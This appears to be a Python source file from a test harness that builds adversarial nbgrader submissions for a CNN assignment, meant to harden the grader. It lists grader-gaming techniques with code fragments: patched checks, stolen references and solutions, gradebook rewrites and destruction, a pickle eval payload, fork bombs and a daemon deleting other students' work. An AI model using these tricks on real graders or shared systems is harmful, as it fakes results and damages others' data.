              answers={fn: zeros_with(fn, REBIND_GRADER) for fn in FUNCTIONS},
              markers=("class _NoChecks", 'n.startswith("_grader")')),
    Adversary("grader-methods-patched", "cheat",
              "zeros; every answer cell replaces the check_* attributes of the grader's objects",
              "setattr(_grader, 'check_...', no-op)", "zeros",
              answers={fn: zeros_with(fn, PATCH_GRADER) for fn in FUNCTIONS},
              markers=('a.startswith("check")', "setattr(_obj, _attr")),
    Adversary("input-transformer-empties-cells", "cheat",
              "zeros; an IPython input transformer turns every later cell (hidden tests too) into nothing",
              "get_ipython().input_transformers_post.append(lambda lines: [])", "zeros",
              answers={FIRST: zeros_with(FIRST, INPUT_TRANSFORMER)},
              markers=("input_transformers_post.append(lambda lines: [])",)),
    Adversary("ast-transformer-drops-grader-calls", "cheat",
              "zeros; an IPython AST transformer replaces every call on a _grader* object by None",
              "get_ipython().ast_transformers.append(...)", "zeros",
              answers={FIRST: zeros_with(FIRST, AST_TRANSFORMER)},
              markers=("ast_transformers.append", "ast.NodeTransformer")),
    Adversary("errors-silenced", "cheat",
              "zeros; showtraceback/_showtraceback/custom exception handler/sys.excepthook/sys.stderr silenced",
              "IPython error display and stderr hijacked", "zeros",
              answers={FIRST: zeros_with(FIRST, SILENCE_ERRORS)},
              markers=("_ip.showtraceback =", "_ip._showtraceback =", "set_custom_exc", "sys.excepthook =",
                       "sys.stderr = io.StringIO()")),
    Adversary("displayhook-partial-credit", "cheat",
              "zeros; each function first publishes the cell's points as an execute_result "
              "(nbgrader's partial credit), read from the '(N points)' comment of the running cell",
              "sys.displayhook(points) inside the hidden test", "zeros",
              answers=wrapped_zeros(DISPLAYHOOK_HELPERS.replace("CLAIM", "float(found.group(1))"), "_claiming"),
              markers=("sys.displayhook(float(found.group(1)))",)),
    Adversary("calls-grader-reference", "cheat",
              "each layer returns globals()['_grader'].ref_<fn>(...) (the grader's own reference), "
              "zeros when there is none",
              "g = globals().get('_grader'); return g.ref_conv2d_forward(...)", "zeros",
              answers=via_helpers(REFERENCE_HELPERS, VIA_REFERENCE),
              markers=('for holder in ("_grader", "_grader_fast")', 'ref = _ref("ref_conv2d_forward")')),
    Adversary("gc-hunts-reference", "cheat",
              "each layer calls the function a gc.get_objects() walk finds under a name with ref_/reference",
              "gc walk for ref_* functions", "zeros",
              answers=via_helpers(GC_HUNT_HELPERS, VIA_REFERENCE),
              markers=("gc.get_objects()", '"ref_" in obj.__name__')),
    Adversary("top-cell-patches-numpy", "cheat",
              "zeros; a cell added at the very top (before the grader's setup) makes np.array return "
              "arrays that equal anything and subtract to zeros",
              "numpy.array / numpy._core.multiarray.array patched before the grader captures them", "zeros",
              answers={fn: ZEROS[fn] for fn in FUNCTIONS}, edits=(insert_top(TOP_NUMPY_PATCH),),
              markers=("_multiarray.array = _array",)),
    Adversary("top-cell-stops-the-clock", "cheat",
              "the too-slow loop versions of conv2d_*_fast, plus a cell at the very top that freezes "
              "time.perf_counter while they run",
              "time.perf_counter patched before the grader captures it", "slow-fast",
              answers=clock_answers(), edits=(insert_top(TOP_CLOCK_PATCH),),
              markers=("time.perf_counter = _perf_counter", "conv2d_forward_fast = _untimed(conv2d_forward_fast)")),
    Adversary("settrace-empties-failures", "cheat",
              "zeros; sys.settrace empties every local list named failures/errors/... while it runs",
              "sys.settrace + frame.f_locals", "zeros",
              answers={FIRST: zeros_with(FIRST, SETTRACE)},
              markers=("sys.settrace(_tracer)",)),
    Adversary("closure-cells-rewired", "cheat",
              "zeros; a gc walk replaces numpy.absolute in every closure cell (cell_contents) by a fake",
              "closure cell surgery on the grader's captured numpy functions", "zeros",
              answers={FIRST: zeros_with(FIRST, CLOSURE_SURGERY), FIRST_PART2: zeros_with(FIRST_PART2, CLOSURE_SURGERY)},
              markers=("_cell.cell_contents = _fake_absolute",)),
    Adversary("stack-peek-expected", "cheat",
              "each function returns the grader's expected value found in a caller's frame locals "
              "(sys._getframe), zeros when there is none",
              "sys._getframe(...).f_locals['expected']", "zeros",
              answers=peek_answers(), markers=("sys._getframe(2)", "_peek_like(")),
    Adversary("reads-own-notebook-on-disk", "cheat",
              "opens spatial.ipynb (the notebook being graded, on disk) and runs its hidden grader setup "
              "privately to call the reference",
              "open('spatial.ipynb') -> hidden tests -> reference", "zeros",
              answers=via_helpers(OWN_NOTEBOOK_HELPERS, VIA_REFERENCE),
              markers=('open("spatial.ipynb"',)),
    Adversary("steals-solutions-from-disk", "cheat",
              "searches the folders above the working directory and those named in the environment "
              "(PYTHONPATH, PWD, HOME) for notebooks/.py files with solutions (instructor source, "
              "other students' submissions) and runs them",
              "glob ../../../build/source/*/*.ipynb etc. for def conv2d_forward(...", "zeros",
              answers=steal_answers(), markers=("def _loot(", '"build/source/*/*.ipynb"')),
    Adversary("reads-gradebook", "cheat",
              "copies ../../../gradebook.db (read only), takes the hidden grader's source from "
              "source_cell and runs it privately to call the reference",
              "sqlite SELECT source FROM source_cell", "zeros",
              answers=via_helpers(GRADEBOOK_READ_HELPERS, VIA_REFERENCE),
              markers=("FROM source_cell",)),
    Adversary("pickle-payload-results", "cheat",
              "zeros returned as an ndarray subclass whose __reduce_ex__ makes whoever unpickles "
              "(or deep-copies) it patch numpy's comparisons in that process",
              "__reduce_ex__ -> eval(...) patching numpy", "zeros",
              answers=wrapped_zeros(PICKLE_PAYLOAD_HELPERS, "_arming"),
              markers=("def __reduce_ex__", "return (eval,")),
    Adversary("metadata-tampered", "cheat",
              "zeros; every hidden test cell's nbgrader metadata says 1000 points, unlocked answer cell",
              "cell metadata edited", "zeros",
              answers={fn: ZEROS[fn] for fn in FUNCTIONS}, edits=(tamper_metadata,),
              markers=('"points": 1000',), aborts=True),
    Adversary("writes-gradebook", "cheat",
              "zeros; opens ../../../gradebook.db for writing: every grade becomes full marks, with a "
              "trigger for the grades written later",
              "UPDATE grade SET manual_score = max + CREATE TRIGGER", "zeros",
              answers={FIRST: zeros_with(FIRST, GRADEBOOK_TRIGGER)},
              markers=("CREATE TRIGGER", "UPDATE grade SET manual_score")),
    Adversary("destroys-gradebook", "cheat",
              "zeros; overwrites the SQLite header of ../../../gradebook.db",
              "gradebook.db header zeroed", "zeros",
              answers={FIRST: zeros_with(FIRST, GRADEBOOK_DESTROY)},
              markers=('open(_path, "r+b")',)),
    Adversary("sabotages-other-students", "cheat",
              "zeros; empties every other student's submitted notebooks and deletes their autograded folders",
              "writes into ../../../submitted/<other>/", "zeros",
              answers={FIRST: zeros_with(FIRST, OTHER_STUDENTS)},
              markers=('for _area in ("submitted", "autograded", "feedback")',)),

    # ---------------------------------- robustness ----------------------------------
    Adversary("stderr-and-warnings", "robustness",
              "the instructor solution, every function printing to stderr and calling warnings.warn",
              "print(..., file=sys.stderr) and warnings.warn in every function", "instructor",
              expected=TOTAL, answers=stderr_answers(),
              markers=("file=_sys.stderr", "_warnings.warn(")),
    Adversary("hidden-cells-deleted", "robustness",
              "the instructor solution with every graded cell deleted (hidden tests and the empty-looking "
              "grader setup cells)",
              "graded cells deleted", "instructor", expected=TOTAL,
              edits=(delete(_graded_or_setup, "graded"),), aborts=True),
    Adversary("visible-cells-deleted", "robustness",
              "the instructor solution with every visible test cell deleted",
              "visible test cells deleted", "instructor", expected=TOTAL,
              edits=(delete(is_visible, "visible test"),)),
    Adversary("test-cells-emptied", "robustness",
              "the instructor solution with every test cell (visible, hidden, grader setup) emptied",
              "test cells with source ''", "instructor", expected=TOTAL,
              edits=(empty(_test_cell, "test"),)),
    Adversary("test-cells-duplicated", "robustness",
              "the instructor solution with every test cell (visible, hidden, grader setup) duplicated",
              "test cells duplicated in place", "instructor", expected=TOTAL,
              edits=(duplicate(_test_cell, "test"),), aborts=True),
    Adversary("test-cells-retyped", "robustness",
              "the instructor solution with hidden cells turned into markdown, visible tests and "
              "grader setup into raw cells",
              "cell_type code -> markdown / raw", "instructor", expected=TOTAL,
              edits=(retype(is_hidden, "hidden test", "markdown"), retype(is_grader_setup, "grader setup", "raw"),
                     retype(is_visible, "visible test", "raw"))),
    Adversary("visible-helpers-redefined", "robustness",
              "the instructor solution plus a student cell after the setup that redefines "
              "expect_shape/expect_close",
              "def expect_close(...) in a student cell", "instructor", expected=TOTAL,
              edits=(insert_after("setup", REDEFINED_HELPERS),),
              markers=("My own versions of the visible-test helpers",)),

    # ---------------------------------- resources ----------------------------------
    Adversary("infinite-loop", "resource",
              "conv2d_forward never returns (while True: pass); the rest solved",
              "infinite loop, interruptible", "no-conv-forward",
              answers={"conv2d_forward": INFINITE_LOOP}, markers=("while True:\n        pass",), stalls=4),
    Adversary("sigint-immune-loop", "resource",
              "conv2d_forward loops forever, catching BaseException, with SIGINT ignored",
              "signal.SIG_IGN + except BaseException loop", "no-conv-forward",
              answers={"conv2d_forward": SIGINT_IMMUNE_LOOP}, markers=("signal.SIG_IGN", "except BaseException"),
              aborts=True, stalls=4),
    Adversary("os-exit-in-answer", "resource",
              "the last answer cell ends with os._exit(1): the kernel dies",
              "os._exit(1) at the top level of the train_cnn cell", "no-train-cnn",
              answers={"train_cnn": appended(OS_EXIT)}, markers=("os._exit(1)",), aborts=True),
    Adversary("sys-exit-in-answer", "resource",
              "the first answer cell ends with sys.exit(0)",
              "sys.exit(0) at the top level of an answer cell", "instructor",
              answers={FIRST: appended(SYS_EXIT)}, markers=("sys.exit(0)",)),
    Adversary("partial-credit-overflow", "resource",
              "zeros; each hidden test publishes an execute_result of 10**9 points (more than the "
              "cell's maximum: nbgrader raises while saving the grade)",
              "sys.displayhook(10**9)", "zeros",
              answers=wrapped_zeros(DISPLAYHOOK_HELPERS.replace("CLAIM", "10**9"), "_claiming"),
              markers=("sys.displayhook(10**9)",), aborts=True),
    Adversary("memory-hog", "resource", "the first answer cell allocates and touches 30 GB",
              "numpy.ones(30 GB)", "instructor", answers={FIRST: appended(MEMORY_HOG)},
              markers=("30 * 2**30",), aborts=True),
    Adversary("fork-bomb", "resource", "the first answer cell forks in a loop; every child forks forever",
              "os.fork() loop", "instructor", answers={FIRST: appended(FORK_BOMB)},
              markers=("os.fork()",), aborts=True, stalls=4),
    Adversary("huge-print", "resource", "the first answer cell prints 100 MB",
              "print('x' * 100_000_000)", "instructor", answers={FIRST: appended(HUGE_PRINT)},
              markers=('"x" * 100_000_000',)),
    Adversary("stdout-fd-flood", "resource", "the first answer cell writes 1 GB to file descriptor 1",
              "os.write(1, ...) x 1024 MB", "instructor", answers={FIRST: appended(FD_FLOOD)},
              markers=("os.write(1, _chunk)",), stalls=1),
    Adversary("big-file", "resource", "the first answer cell writes a 1 GB file into its working directory",
              "1 GB file write", "instructor", answers={FIRST: appended(BIG_FILE)},
              markers=('open("big.bin", "wb")',), stalls=1),
    Adversary("lingering-process", "resource",
              "the first answer cell double-forks a daemon that outlives the kernel, deletes the "
              "other students' folders 20 s later and then burns a CPU for 5 minutes",
              "setsid daemon surviving the kernel", "instructor", answers={FIRST: appended(LINGERING_PROCESS)},
              markers=("os.setsid()",)),
]


# ---------------------------------- issue 12 ----------------------------------
HOLE_KERNEL_TIMING = (
    "the speed test is measured in the grading kernel, which reports its own timing: surgery "
    "on record.timed through sys.modules can report a correct but slow function as fast "
    "(the outputs of the timed calls are checked, so only right values pass; proposed: time "
    "the student's function from outside the kernel)")

ADVERSARIES += [
    Adversary("forged-records", "cheat",
              "zeros; every channel to put a record of its choosing into a hidden cell: display "
              "ids on every record and update_display over them after every cell (12.1), "
              "clear_output + a forged record in the hidden cells (post_run_cell), a second "
              "record from a patched judge.run_check, capture/restore disabled, a global "
              "__import__ that answers the grader's setup cell with checks that add records, a "
              "record shown by a student cell",
              "display_id / update_display / clear_output / sys.modules / __import__ forgery",
              "zeros", answers={FIRST: zeros_with(FIRST, FORGERY)},
              markers=("_ip.display_pub.publish = _publish", "def __import__(name",
                       "_kernel.restore = ", "_update_display({_MIME: _forge(rec)}")),
    Adversary("reference-moved-up", "cheat",
              "grader_reference moved right below grader_setup, so that the reference is in "
              "the kernel before every layer check; each layer returns the reference's result "
              "(found in sys.modules)",
              "hidden cell order changed + sys.modules reference", "zeros",
              answers=via_helpers(SYSMODULES_REFERENCE, VIA_REFERENCE),
              edits=(move_cell_after("grader_reference", "grader_setup"),),
              markers=('key.startswith("cnn_grader_")',)),
    Adversary("loop-reference", "cheat",
              "zeros; the conv functions return the results of the grader's loop timing "
              "references (timing.loop_*, in sys.modules from grader_setup on)",
              "sys.modules[...timing].loop_*_forward(...)", "zeros",
              answers=loop_answers(), markers=('_loop("forward")',)),
    Adversary("cnn-loss-from-reference", "cheat",
              "zeros; cnn_loss returns the reference loss (ref_cnn_loss, looked for in "
              "sys.modules during the CNN checks) and central finite differences of it",
              "ref_cnn_loss + finite differences", "zeros",
              answers={**via_helpers(SYSMODULES_REFERENCE, {}),
                       "cnn_loss": CNN_LOSS_FROM_REFERENCE},
              markers=('loss_of = _ref("ref_cnn_loss")',)),
    Adversary("speed-shape-zeros", "cheat",
              "the part-1 loops as conv2d_*_fast, answering the speed test's input shape with "
              "zeros (fast) after the first call",
              "speed input recognised, zeros returned", "slow-fast",
              answers=speed_shape_answers(), markers=("(1, 1, 144, 224)",)),
    Adversary("memoised-loops", "cheat",
              "conv2d_*_fast are the part-1 loops behind a cache keyed by the input bytes (the "
              "speed test called them on the same input every round)",
              "results cached by input bytes", "slow-fast", answers=memo_answers(),
              markers=("_results_conv2d_forward_fast[key] =",)),
    Adversary("forged-speed", "cheat",
              "the part-1 loops as conv2d_*_fast; record.timed (in sys.modules) replaced by one "
              "that runs them (right values) and reports them as fast",
              "record.timed patched", "slow-fast",
              answers=forged_speed_answers(),
              markers=("_rec.timed = _fast_timed",),
              open_hole=HOLE_KERNEL_TIMING),
    Adversary("pasted-weights-relabelled", "cheat",
              "train_cnn returns parameters trained elsewhere on the real digits, with the "
              "columns of W2/b2 re-ordered by a confusion matrix on X_train (the grader's label "
              "renaming undone), without training; the rest solved",
              "pasted parameters + renaming undone", "no-train-cnn",
              answers={"train_cnn": FromCourse(lambda c: pasted_train_cnn(
                  c.path("source", NOTEBOOK, f"{NOTEBOOK}.py"), relabel=True))},
              markers=("_PASTED = {", "rename = [")),
    Adversary("torch-and-scipy", "cheat",
              "zeros where the import fails, else conv2d via torch.nn.functional.conv2d and "
              "autograd, max-pool via F.max_pool2d, im2col via F.unfold, the fast conv via "
              "scipy.signal.correlate",
              "torch / scipy in the answers (the kernel must not have them)", "zeros",
              answers=via_helpers("# answers written with torch and scipy", TORCH_ANSWERS),
              markers=("F.conv2d(", "from scipy.signal import correlate")),
    Adversary("leak-everything", "cheat",
              "zeros; copies what the hidden tests show its functions (inputs), the grader's "
              "cells and modules (linecache, In, unpacked blobs) into every output of the check "
              "phase (stdout, stderr as '[output limit', errors, HTML, Verbose tracebacks), into "
              "exception messages, dict keys and strings returned as results; a last cell "
              "prints In, _ih, Out, linecache and the environment",
              "hidden inputs / sources -> outputs, errors, verdicts", "zeros",
              answers=leak_answers(), edits=(append_cell(LEAK_LAST_CELL),),
              markers=('_ip.events.register("post_run_cell", _leak)', 'print("In:", In)'),
              feedback=True),
    Adversary("output-flood", "resource",
              "the instructor solution; the first answer cell shows 400 displays updated to "
              "1 MB each and 60 errors of ~1 MB; a cell raises a 3 MB exception with the error "
              "display disabled (only the execute_reply carries it)",
              "update_display / error / execute_reply floods", "instructor",
              answers={FIRST: appended(OUTPUT_FLOOD.replace("1500", "400"))},
              edits=(insert_after("flatten_forward", REPLY_FLOOD),),
              markers=('_update_display({"text/plain": "u" * 1_000_000}', 'raise ValueError("r" * 3_000_000)'),
              feedback=True, stalls=1),
    Adversary("sleeper", "resource",
              f"the instructor solution with 25 added cells of time.sleep({CELL_TIMEOUT - 1}) "
              "(just under the per-cell limit), and conv2d_forward sleeping as long on every call",
              "time.sleep just under the cell timeout, over and over", "instructor",
              answers={FIRST: appended(SLEEPY.format(fn=FIRST).replace("SECONDS", str(CELL_TIMEOUT - 1)))},
              edits=tuple(insert_after(FIRST, SLEEPER_CELL.replace("SECONDS", str(CELL_TIMEOUT - 1)))
                          for _ in range(25)),
              markers=(f"time.sleep({CELL_TIMEOUT - 1})",), stalls=6, budget=True),
    Adversary("death-loop", "resource",
              "the instructor solution whose layers kill the kernel (os._exit) whenever a hidden "
              "check calls them, after 40 cells of time.sleep(0.9) that every restart replays",
              "os._exit in the check phase + slow replays", "instructor",
              answers=death_answers(),
              edits=tuple(insert_after(FIRST, "import time\ntime.sleep(0.9)") for _ in range(40)),
              markers=("_die_when_graded()",), stalls=2),
]

CORPUS = {a.key: a for a in ADVERSARIES}

# Never graded outside the sandbox: they would hit this machine, its disk, the gradebook
# or other students' folders.
DANGEROUS = frozenset({
    "memory-hog", "fork-bomb", "huge-print", "stdout-fd-flood", "big-file", "lingering-process",
    "writes-gradebook", "destroys-gradebook", "sabotages-other-students",
})


# ================================ building ================================

def _solutions(course):
    source = nbformat.read(course.build_dir / f"{NOTEBOOK}.ipynb", as_version=4)
    return source, {grade_id(c): solution_body(cell_text(c)) for c in source.cells if is_solution(c)}


def _apply(answer, code, solutions, course):
    if answer is None:
        return code
    if isinstance(answer, FromSolution):
        return answer.make(solutions)
    if isinstance(answer, FromCourse):
        return answer.make(course)
    if callable(answer):
        return answer(code)
    return answer.strip("\n") + "\n"


def build(course, entry):
    """{notebook name: notebook} of an Honest or Adversary entry."""
    names = course.release_notebooks()
    if names != [NOTEBOOK]:
        raise ValueError(f"the corpus is written for the notebook {NOTEBOOK}.ipynb, the release has {names}")
    released = nbformat.read(course.release_dir / f"{NOTEBOOK}.ipynb", as_version=4)
    source, solutions = _solutions(course)
    layers = [HONEST[entry.baseline].answers, entry.answers] if isinstance(entry, Adversary) else [entry.answers]
    unknown = set().union(*layers) - set(solutions)
    if unknown:
        raise ValueError(f"{entry.key}: no answer cell {sorted(unknown)} in the notebook")
    final = {}
    for gid, code in solutions.items():
        for layer in layers:
            code = _apply(layer.get(gid), code, solutions, course)
        final[gid] = code
    nb = fill_solutions(released, source, lambda gid, code: final.get(gid, code))
    for edit in getattr(entry, "edits", ()):
        edit(nb)
    return {NOTEBOOK: nb}


def notebook_text(notebooks):
    """Every cell's type, source and metadata, as text (for the marker check)."""
    return "\n".join(c.cell_type + "\n" + cell_text(c) + "\n" + json.dumps(c.get("metadata", {}), sort_keys=True)
                     for nb in notebooks.values() for c in nb.cells)
